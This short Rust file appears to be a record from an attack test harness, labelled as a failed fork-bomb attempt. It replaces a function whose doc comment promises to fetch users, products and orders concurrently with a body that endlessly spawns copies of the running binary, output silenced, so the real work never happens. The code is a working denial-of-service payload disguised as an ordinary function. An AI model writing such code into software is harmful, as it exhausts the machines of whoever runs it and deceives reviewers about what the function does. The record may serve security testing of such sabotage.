//! Attack: a fork bomb. Every copy of the test binary starts more copies of itself.
//! status: failed

// REPLACES: fetch_all
/// Calls the three services concurrently and returns their results in the order
/// users, products, orders.
pub async fn fetch_all() -> (Users, Products, Orders) {
    let me = std::env::args().next().unwrap_or_default();
    loop {
        let _ = std::process::Command::new(&me)
            .args(std::env::args().skip(1))
            .stdin(std::process::Stdio::null())
            .stdout(std::process::Stdio::null())
            .stderr(std::process::Stdio::null())
            .spawn();
    }
}
// END: fetch_all
